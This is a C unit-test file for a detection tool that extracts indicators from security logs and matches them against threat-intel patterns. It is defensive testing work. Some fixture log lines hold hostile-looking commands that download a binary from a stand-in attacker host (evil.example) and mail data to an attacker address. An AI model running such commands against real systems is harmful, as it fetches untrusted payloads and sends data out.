#include "detect/watch.h"

#include "base/mem.h"
#include "detect/observe.h"
#include "detect/where.h"
#include "tap.h"

static const char *const kind_names[] = { "ipv4", "ipv6", "domain", "url", "email", "md5", "sha1", "sha256", "sha512" };

/* "kind=value@field kind=value@field" sorted as found. */
static void describe(const struct event_view *e, struct buf *out)
{
	for (size_t i = 0; i < e->n; i++)
		buf_fmt(out, "%s%s=%.*s@%.*s", i > 0 ? " " : "", kind_names[e->list[i].kind], STR(e->list[i].value), STR(e->list[i].field));
}

static void test_formats(void)
{
	static const struct {
		const char *name, *line, *want, *where;
	} rows[] = {
		{ "Suricata EVE, DNS",
		  "{\"timestamp\":\"2026-11-22T08:00:00.500000+0800\",\"event_type\":\"dns\",\"src_ip\":\"10.0.0.5\",\"dest_ip\":\"198.51.100.1\","
		  "\"host\":\"fw1\",\"dns\":{\"rrname\":\"Evil.Example\"}}",
		  "ipv4=10.0.0.5@src_ip ipv4=198.51.100.1@dest_ip domain=evil.example@dns.rrname", "fw1" },
		{ "Suricata EVE, HTTP: host and path are one URL",
		  "{\"timestamp\":\"2026-11-22T00:00:00.000000+0000\",\"http\":{\"hostname\":\"evil.example\",\"url\":\"/a?b=1\"}}",
		  "url=http://evil.example/a?b=1@http.url domain=evil.example@http.hostname", "" },
		{ "Zeek conn", "{\"ts\":1795305600.25,\"id.orig_h\":\"2001:db8::5\",\"id.resp_h\":\"203.0.113.9\",\"proto\":\"tcp\"}",
		  "ipv6=2001:db8::5@id.orig_h ipv4=203.0.113.9@id.resp_h", "2001:db8::5" },
		{ "Zeek http", "{\"ts\":1795305600,\"host\":\"evil.example\",\"uri\":\"/x\"}",
		  "url=http://evil.example/x@uri domain=evil.example@host", "" },
		{ "Sysmon as Winlogbeat writes it",
		  "{\"@timestamp\":\"2026-11-22T00:00:00.000Z\",\"host\":{\"name\":\"pc7\"},\"winlog\":{\"event_data\":{\"Hashes\":"
		  "\"MD5=D41D8CD98F00B204E9800998ECF8427E,SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709\"}}}",
		  "md5=d41d8cd98f00b204e9800998ecf8427e@winlog.event_data.Hashes "
		  "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709@winlog.event_data.Hashes",
		  "pc7" },
		{ "an address with its port, in an array", "{\"peers\":[\"198.51.100.7:443\",\"[2001:db8::9]:53\"]}",
		  "ipv4=198.51.100.7@peers.0 ipv6=2001:db8::9@peers.1", "" },
		{ "inside a command line", "{\"CommandLine\":\"curl -o x http://evil.example/p.bin && mail a@evil.example\"}",
		  "url=http://evil.example/p.bin@CommandLine email=a@evil.example@CommandLine", "" },
		{ "a URL with a query, in text", "{\"cmd\":\"curl 'http://evil.example/p?a=1,2&b=(3)' -o x\"}",
		  "url=http://evil.example/p?a@cmd url=http://evil.example/p?a=1,2&b=(3)@cmd", "" },
		{ "the field, not the message that repeats it", "{\"Message\":\"Source: 10.0.0.5 Dest: 198.51.100.7\",\"DestinationIp\":\"198.51.100.7\"}",
		  "ipv4=10.0.0.5@Message ipv4=198.51.100.7@DestinationIp", "" },
		{ "an IPv4 peer of a dual-stack socket", "{\"IpAddress\":\"::ffff:198.51.100.7\",\"b\":\"::FFFF:c633:6408\"}",
		  "ipv4=198.51.100.7@IpAddress ipv4=198.51.100.8@b", "" },
		{ "nothing to see", "{\"a\":1,\"b\":\"hello\",\"c\":null,\"d\":[true,{}]}", "", "" },
	};
	struct arena *a = arena_new((size_t)64 << 20);

	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct event_view e;
		struct buf got;

		arena_reset(a);
		buf_init(&got, 65536);
		OK(event_observe(a, str_of(rows[i].line), &e, NULL) == RC_OK, "%s: read", rows[i].name);
		describe(&e, &got);
		EQ_STR(buf_view(&got), str_of(rows[i].want), rows[i].name);
		EQ_STR(event_where(e.tree, LOG_JSON, S("")), str_of(rows[i].where), "  where");
		buf_done(&got);
	}
	arena_free(a);
}

static void note_time(void *ctx, const struct hit *h)
{
	usec *at = ctx;

	*at = h->at;
}

/* A hit is dated by its event whatever the format; by the clock only when the event tells no time. */
static void test_times(void)
{
	static const struct {
		const char *name, *line;
		usec at;
	} rows[] = {
		{ "Suricata EVE, with its zone", "{\"timestamp\":\"2026-11-22T08:00:00.500000+0800\",\"d\":\"evil.example\"}", 1795305600500000 },
		{ "Zeek's JSON", "{\"ts\":1795305600.25,\"host\":\"evil.example\"}", 1795305600250000 },
		{ "Sysmon: when it happened, not when it was sent",
		  "{\"@timestamp\":\"2026-11-22T00:00:09Z\",\"winlog\":{\"event_data\":{\"UtcTime\":\"2026-11-22 00:00:00.125\",\"QueryName\":\"evil.example\"}}}",
		  1795305600125000 },
		{ "a record of Windows as JSON",
		  "{\"Event\":{\"System\":{\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-11-22T00:00:00.5Z\"}}},\"EventData\":{\"d\":\"evil.example\"}}}",
		  1795305600500000 },
		{ "CEF: rt", "CEF:0|V|Box|1|7|n|5|rt=1795305600125 dhost=evil.example", 1795305600125000 },
		{ "LEEF: devTime", "LEEF:1.0|V|Box|1|7|devTime=1795305600125\tdst=192.0.2.1\tdhost=evil.example", 1795305600125000 },
		{ "key=value: date and time", "date=2026-11-22 time=08:00:00 tz=\"+0800\" devname=fw1 hostname=evil.example action=deny", 1795305600000000 },
		{ "syslog", "<34>1 2026-11-22T00:00:00.25Z fw1 dns - - - query evil.example", 1795305600250000 },
		{ "none", "{\"d\":\"evil.example\"}", 1800000000000000 },
		{ "none in CEF", "CEF:0|V|Box|1|7|n|5|dhost=evil.example", 1800000000000000 },
	};
	struct image *m = image_new(1000);
	struct image_indicator ind = { .id = S("indicator--00000000-0000-4000-8000-000000000001"),
				       .pattern = S("[domain-name:value = 'evil.example']"), .valid_from = INT64_MIN };

	OK(image_update(m, &ind, NULL) == RC_OK, "an image");
	time_fake_set(1800000000000000);
	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct watch *w = NULL;
		usec at = 0;

		OK(watch_new(m, S("t"), note_time, &at, &w, NULL) == RC_OK && watch_message(w, S(""), LOG_UNKNOWN, str_of(rows[i].line), NULL) == RC_OK,
		   "%s", rows[i].name);
		EQ_INT(at, rows[i].at, "  the hit's time");
		watch_free(w);
	}
	time_fake_off();
	image_free(m);
}

static void note_any(void *ctx, const struct hit *h)
{
	int *n = ctx;

	*n += h->indicator.n > 0;
}

/* Patterns that ask for several things at once hit only what meets them all. */
static void test_together(void)
{
	static const struct {
		const char *pattern, *line;
		int hits;
	} rows[] = {
#define DST "[network-traffic:dst_ref.value = '198.51.100.7' AND network-traffic:dst_port = 443]"
		{ DST, "{\"src_ip\":\"10.0.0.5\",\"src_port\":50000,\"dest_ip\":\"198.51.100.7\",\"dest_port\":443}", 1 },
		{ DST, "{\"src_ip\":\"10.0.0.5\",\"src_port\":443,\"dest_ip\":\"198.51.100.7\",\"dest_port\":80}", 0 },
		{ DST, "{\"src_ip\":\"198.51.100.7\",\"src_port\":443,\"dest_ip\":\"10.0.0.5\",\"dest_port\":443}", 0 },
		{ DST, "{\"dest_ip\":\"198.51.100.7\"}", 0 },
		{ DST, "{\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":5000,\"id.resp_h\":\"198.51.100.7\",\"id.resp_p\":443}", 1 },
		{ DST, "{\"winlog\":{\"event_data\":{\"DestinationIp\":\"198.51.100.7\",\"DestinationPort\":\"443\"}}}", 1 },
		{ DST, "{\"destination\":{\"ip\":\"::ffff:198.51.100.7\",\"port\":443}}", 1 },
		{ DST, "{\"source\":{\"ip\":\"198.51.100.7\",\"port\":443}}", 0 },
		{ "[network-traffic:src_ref.value = '2001:db8::7' AND network-traffic:src_port = 53]",
		  "{\"src_ip\":\"2001:0db8::0007\",\"src_port\":53,\"dest_ip\":\"10.0.0.5\"}", 1 },
		{ "[network-traffic:dst_ref.value = '198.51.100.0/24' AND network-traffic:dst_port = 443]",
		  "{\"dest_ip\":\"198.51.100.9\",\"dest_port\":443}", 1 },
		{ "[network-traffic:dst_ref.value = '198.51.100.0/24' AND network-traffic:dst_port = 443]",
		  "{\"src_ip\":\"198.51.100.9\",\"dest_ip\":\"198.51.101.9\",\"dest_port\":443}", 0 },
		{ "[network-traffic:dst_ref.value = '198.51.100.7']", "{\"dest_ip\":\"198.51.100.7\"}", 1 },
		{ "[network-traffic:dst_ref.value = '198.51.100.7']", "{\"src_ip\":\"198.51.100.7\"}", 0 },
		{ "[network-traffic:dst_ref.value = 'evil.example' AND network-traffic:dst_port = 8443]",
		  "{\"dest_ip\":\"198.51.100.7\",\"dest_port\":8443,\"tls\":{\"sni\":\"www.evil.example\"}}", 1 },
		{ "[network-traffic:dst_ref.value = 'evil.example' AND network-traffic:dst_port = 8443]",
		  "{\"dest_ip\":\"198.51.100.7\",\"dest_port\":443,\"tls\":{\"sni\":\"www.evil.example\"}}", 0 },
		{ "[domain-name:value = 'evil.example' AND domain-name:resolves_to_refs[*].value = '198.51.100.7']",
		  "{\"dns\":{\"rrname\":\"evil.example\",\"answers\":[{\"rdata\":\"198.51.100.7\"}]}}", 1 },
		{ "[domain-name:value = 'evil.example' AND domain-name:resolves_to_refs[*].value = '198.51.100.7']",
		  "{\"dns\":{\"rrname\":\"evil.example\",\"answers\":[{\"rdata\":\"198.51.100.8\"}]}}", 0 },
		{ "[file:name = 'a.exe' AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
		  "{\"Image\":\"C:\\\\tmp\\\\a.exe\",\"Hashes\":\"MD5=D41D8CD98F00B204E9800998ECF8427E\"}", 1 },
		{ "[file:name = 'a.exe' AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
		  "{\"Image\":\"C:\\\\tmp\\\\aa.exe\",\"Hashes\":\"MD5=D41D8CD98F00B204E9800998ECF8427E\"}", 0 },
	};

	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct image *m = image_new(1000);
		struct image_indicator ind = { .id = S("indicator--00000000-0000-4000-8000-000000000001"), .pattern = str_of(rows[i].pattern),
					       .valid_from = INT64_MIN, .confidence = 255 };
		struct watch *w = NULL;
		int hits = 0;

		OK(image_update(m, &ind, NULL) == RC_OK && watch_new(m, S("t"), note_any, &hits, &w, NULL) == RC_OK, "%s", rows[i].pattern);
		OK(watch_feed(w, str_of(rows[i].line), NULL) == RC_OK && watch_end(w, NULL) == RC_OK, "  %s", rows[i].line);
		EQ_INT(hits, rows[i].hits, "  hits");
		watch_free(w);
		image_free(m);
	}
}

static void count_hit(void *ctx, const struct hit *h)
{
	int *n = ctx;

	(*n)++;
	if (!str_eq(h->indicator, S("indicator--00000000-0000-4000-8000-000000000001")) || !str_eq(h->input, S("t")))
		*n += 1000;
}

static struct image *one_domain(void)
{
	struct image *m = image_new(1000);
	struct image_indicator i = { .id = S("indicator--00000000-0000-4000-8000-000000000001"),
				     .pattern = S("[domain-name:value = 'evil.example']"), .valid_from = INT64_MIN };

	OK(image_update(m, &i, NULL) == RC_OK, "an image with one domain");
	return m;
}

/* However the bytes are cut, the same lines come out: in = good + bad, always. */
static void test_pieces(void)
{
	static const char text[] = "{\"d\":\"a.evil.example\"}\n\nnot json\n{\"d\":\"good.example\"}\r\n[1]\n{\"d\":\"evil.example\"}";
	struct image *m = one_domain();

	for (size_t piece = 1; piece <= sizeof text; piece += piece < 4 ? 1 : 7) {
		struct watch *w = NULL;
		struct watch_stats st;
		int hits = 0;
		bool good = watch_new(m, S("t"), count_hit, &hits, &w, NULL) == RC_OK;

		for (size_t at = 0; at < sizeof text - 1; at += piece)
			good &= watch_feed(w, str_slice(str_make(text, sizeof text - 1), at, at + piece), NULL) == RC_OK;
		good &= watch_end(w, NULL) == RC_OK;
		watch_stats(w, &st);
		OK(good && hits == 2 && st.lines == 5 && st.bad_lines == 2 && st.hits == 2, "pieces of %zu", piece);
		watch_free(w);
	}
	image_free(m);
}

static void test_long_line(void)
{
	struct image *m = one_domain();
	struct watch *w = NULL;
	struct watch_stats st;
	int hits = 0;
	char piece[65536];
	bool good = watch_new(m, S("t"), count_hit, &hits, &w, NULL) == RC_OK;

	memset(piece, 'x', sizeof piece);
	for (size_t n = 0; n <= WATCH_LINE_MAX; n += sizeof piece)
		good &= watch_feed(w, str_make(piece, sizeof piece), NULL) == RC_OK;
	good &= watch_feed(w, S("\n{\"d\":\"evil.example\"}\n"), NULL) == RC_OK;
	watch_stats(w, &st);
	OK(good && st.lines == 2 && st.bad_lines == 1 && hits == 1, "a line that is too long is skipped, the next is read");
	OK(strstr(watch_last_error(w), "longer than") != NULL, "and it is said why: %s", watch_last_error(w));
	watch_free(w);
	image_free(m);
}

static bool suppress_all(void *ctx, enum observable_kind kind, struct str value, struct str *ret_list)
{
	(void)ctx;
	(void)kind;
	*ret_list = S("known sites");
	return str_eq(value, S("evil.example"));
}

static void note_list(void *ctx, const struct hit *h)
{
	struct buf *b = ctx;

	buf_fmt(b, "%.*s[%.*s] ", STR(h->what.value), STR(h->suppressed));
}

/* What a warning list names is told with the reason, and is no hit. */
static void test_suppressed(void)
{
	struct image *m = one_domain();
	struct watch *w = NULL;
	struct watch_stats st;
	struct buf told;

	buf_init(&told, 4096);
	image_set_suppress(m, suppress_all, NULL);
	OK(watch_new(m, S("t"), note_list, &told, &w, NULL) == RC_OK, "a watch with a warning list");
	OK(watch_feed(w, S("{\"a\":\"evil.example\",\"b\":\"x.evil.example\"}\n"), NULL) == RC_OK, "  a line");
	EQ_STR(buf_view(&told), S("evil.example[known sites] x.evil.example[] "), "  both are told, one with its list");
	watch_stats(w, &st);
	OK(st.hits == 1 && st.suppressed == 1, "  and one is a hit");
	buf_done(&told);
	watch_free(w);
	image_free(m);
}

struct taken {
	char lines[256];
	enum rc answer;
};

static enum rc take_event(void *ctx, struct flat *f, struct str line, struct err *err)
{
	struct taken *t = ctx;
	size_t n = strlen(t->lines);

	if (t->answer != RC_OK)
		return FAIL(err, t->answer, "no");
	snprintf(t->lines + n, sizeof t->lines - n, "%s:%.*s|", log_format_name(f->format), STR(str_slice(line, 0, 12)));
	return RC_OK;
}

static void no_hit(void *ctx UNUSED, const struct hit *h UNUSED)
{
}

/* Messages of several logs and formats at one door; refused ones come again and count once. */
static void test_messages(void)
{
	static const char zeek[] = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#fields\tts\tid.orig_h\n"
				   "#types\ttime\taddr\n";
	struct image *m = one_domain();
	struct taken t = { .answer = RC_OK };
	struct watch_stats st;
	struct watch *w = NULL;
	struct err err = { 0 };
	struct str rest = str_of(zeek), line;

	OK(watch_new(m, S("t"), no_hit, &t, &w, &err) == RC_OK, "a watch");
	watch_events(w, take_event);
	while (str_next(&rest, '\n', &line))
		OK(watch_message(w, S("conn.log"), LOG_UNKNOWN, line, &err) == RC_OK, "a comment of Zeek's");
	OK(watch_message(w, S("a"), LOG_UNKNOWN, S("{\"a\":1}"), &err) == RC_OK && watch_message(w, S("b"), LOG_UNKNOWN, S("<34>1 - h a - - - one\ntwo"), &err) == RC_OK &&
	   watch_message(w, S("conn.log"), LOG_UNKNOWN, S("1700000000.0\t192.0.2.1"), &err) == RC_OK, "three logs, a format each");
	OK(watch_message(w, S(""), LOG_UNKNOWN, S("<34>1 - h a - - - x"), &err) == RC_OK && watch_message(w, S(""), LOG_UNKNOWN, S("{\"c\":2}"), &err) == RC_OK &&
	   watch_message(w, S(""), LOG_UNKNOWN, S("<34>1 - h a - - - y"), &err) == RC_OK, "two kinds of senders at one door");
	OK(watch_message(w, S(""), LOG_JSON, S("{\"d\":3}"), &err) == RC_OK && watch_message(w, S(""), LOG_JSON, S("{\"d\""), &err) == RC_OK, "a format that is given, once broken");
	EQ_STR(str_of(t.lines), S("json:{\"a\":1}|syslog:<34>1 - h a |zeek:1700000000.0|syslog:<34>1 - h a |json:{\"c\":2}|syslog:<34>1 - h a |json:{\"d\":3}|"),
	       "each as what it is, a message with a line end is one event");
	t.answer = RC_BUSY;
	EQ_INT(watch_message(w, S(""), LOG_UNKNOWN, S("{\"e\":4}"), &err), RC_BUSY, "what the taker refuses is said");
	t.answer = RC_OK;
	EQ_INT(watch_message(w, S(""), LOG_UNKNOWN, S("{\"e\":4}"), &err), RC_OK, "and taken when it comes again");
	watch_stats(w, &st);
	OK(st.lines == 16 && st.events == 8 && st.bad_lines == 1, "lines = events + bad lines + comments: %llu %llu %llu", (unsigned long long)st.lines,
	   (unsigned long long)st.events, (unsigned long long)st.bad_lines);
	watch_free(w);
	image_free(m);
}

static void any_hit(void *ctx, const struct hit *h)
{
	(void)h;
	++*(uint64_t *)ctx;
}

/* One life of a watch: pieces, a torn line, an event of many fields, a message of a part. */
static enum rc one_life(const struct image *m, uint64_t *hits)
{
	static const char event[] = "{\"a\":\"evil.example\",\"b\":[\"198.51.100.7:80\",\"http://evil.example/x?a=1\"],\"c\":{\"hostname\":"
				    "\"evil.example\",\"url\":\"/p\"}}\n{\"d\":\"ev";
	struct watch *w = NULL;
	enum rc rc = watch_new(m, S("t"), any_hit, hits, &w, NULL);

	if (rc != RC_OK)
		return rc;
	rc = watch_feed(w, str_of(event), NULL);
	if (rc == RC_OK)
		rc = watch_feed(w, S("il.example\"}\n"), NULL);
	if (rc == RC_OK)
		rc = watch_message(w, S("part"), LOG_UNKNOWN, S("{\"d\":\"evil.example\"}"), NULL);
	if (rc == RC_OK)
		rc = watch_end(w, NULL);
	watch_free(w);
	return rc;
}

/* A line that memory does not suffice for is a bad line; the watch lives on. */
static void test_no_memory(void)
{
	struct image *m = one_domain();
	int64_t live = mem_live();
	uint64_t nth = 1, all = 0, hits = 0;
	bool clean = true;

	EQ_INT(one_life(m, &all), RC_OK, "none fails");
	EQ_INT(all, 6, "  hits");
	/* Some failures change nothing (a buffer that would have been kept): a row of whole runs ends it. */
	for (int whole = 0; nth < 1000 && whole < 8; nth++) {
		enum rc rc;

		hits = 0;
		mem_fail_at(nth, 0);
		rc = one_life(m, &hits);
		mem_fail_at(0, 0);
		clean &= (rc == RC_OK || rc == RC_NOMEM) && hits <= all && mem_live() == live;
		whole = rc == RC_OK && hits == all ? whole + 1 : 0;
	}
	OK(clean && hits == all && nth > 12, "every allocation may fail: %llu of them", (unsigned long long)nth - 9);
	image_free(m);
}

static void note_where(void *ctx, const struct hit *h)
{
	struct buf *b = ctx;

	buf_clear(b);
	buf_str(b, h->where);
}

/* The machine that tells of it, else the inside end; never the server that was asked for. */
static void test_where(void)
{
	static const struct {
		const char *name, *line, *where;
	} rows[] = {
		{ "EVE without a sensor", "{\"event_type\":\"http\",\"src_ip\":\"10.1.2.9\",\"dest_ip\":\"203.0.113.9\",\"http\":{\"hostname\":\"www.evil.example\",\"url\":\"/\"}}",
		  "10.1.2.9" },
		{ "EVE with one", "{\"event_type\":\"tls\",\"host\":\"fw1\",\"src_ip\":\"10.1.2.9\",\"tls\":{\"sni\":\"www.evil.example\"}}", "fw1" },
		{ "a firewall's key=value", "date=2026-01-02 time=03:04:05 devname=\"fg1\" srcip=10.1.2.9 dstip=203.0.113.9 hostname=\"a.evil.example\"", "fg1" },
		{ "one that names no device", "date=2026-01-02 time=03:04:05 srcip=10.1.2.9 dstip=203.0.113.9 hostname=\"a.evil.example\"", "10.1.2.9" },
		{ "the same as JSON", "{\"devname\":\"fg1\",\"srcip\":\"10.1.2.9\",\"hostname\":\"a.evil.example\"}", "fg1" },
		{ "syslog", "<34>1 2026-01-02T03:04:05Z gw app - - - saw evil.example", "gw" },
		{ "JSON within syslog", "<34>1 2026-01-02T03:04:05Z gw app - - - {\"http\":{\"hostname\":\"www.evil.example\",\"url\":\"/\"}}", "gw" },
		{ "  without a host", "<34>1 2026-01-02T03:04:05Z - app - - - {\"src_ip\":\"10.1.2.9\",\"http\":{\"hostname\":\"www.evil.example\"}}", "10.1.2.9" },
		{ "key=value within syslog", "<34>1 2026-01-02T03:04:05Z gw app - - - a=b c=d hostname=a.evil.example", "gw" },
		{ "CEF", "CEF:0|V|B|1|100|Blocked|5|src=10.1.2.9 dhost=evil.example", "10.1.2.9" },
		{ "CEF with its device", "CEF:0|V|B|1|100|Blocked|5|dvchost=box1 src=10.1.2.9 dhost=evil.example", "box1" },
		{ "Zeek http", "{\"ts\":1795305600,\"id.orig_h\":\"10.1.2.9\",\"host\":\"evil.example\"}", "10.1.2.9" },
		{ "a proxy's JSON", "{\"hostname\":\"evil.example\",\"url\":\"/x\",\"src\":\"10.1.2.9\"}", "10.1.2.9" },
		{ "NXLog", "{\"Hostname\":\"pc7\",\"QueryName\":\"evil.example\"}", "pc7" },
		{ "Winlogbeat", "{\"host\":{\"name\":\"pc7\"},\"agent\":{\"hostname\":\"wec\"},\"dns\":{\"question\":{\"name\":\"evil.example\"}}}", "pc7" },
		{ "evtx_dump", "{\"Event\":{\"System\":{\"Computer\":\"pc8\"},\"EventData\":{\"QueryName\":\"evil.example\"}}}", "pc8" },
		{ "CloudTrail", "{\"eventSource\":\"s3\",\"sourceIPAddress\":\"198.51.100.1\",\"requestParameters\":{\"Host\":\"evil.example\"}}", "" },
	};
	struct image *m = one_domain();
	struct buf got;

	buf_init(&got, 4096);
	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct watch *w = NULL;

		buf_clear(&got);
		buf_cstr(&got, "no hit");
		OK(watch_new(m, S("t"), note_where, &got, &w, NULL) == RC_OK && watch_feed(w, str_of(rows[i].line), NULL) == RC_OK &&
		   watch_end(w, NULL) == RC_OK, "%s", rows[i].name);
		EQ_STR(buf_view(&got), str_of(rows[i].where), "  where");
		watch_free(w);
	}
	buf_done(&got);
	image_free(m);
}

int main(void)
{
	test_formats();
	test_times();
	test_where();
	test_together();
	test_pieces();
	test_long_line();
	test_suppressed();
	test_messages();
	test_no_memory();
	return tap_done();
}
